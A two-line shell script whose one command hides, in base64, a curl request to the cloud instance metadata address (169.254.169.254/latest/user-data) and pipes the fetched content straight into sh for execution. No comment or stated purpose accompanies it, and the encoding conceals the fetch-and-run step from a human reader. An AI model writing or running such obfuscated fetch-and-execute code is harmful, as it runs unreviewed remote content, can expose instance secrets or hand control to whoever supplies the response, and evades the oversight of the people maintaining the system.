#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC91c2VyLWRhdGE= | base64 -d | sh
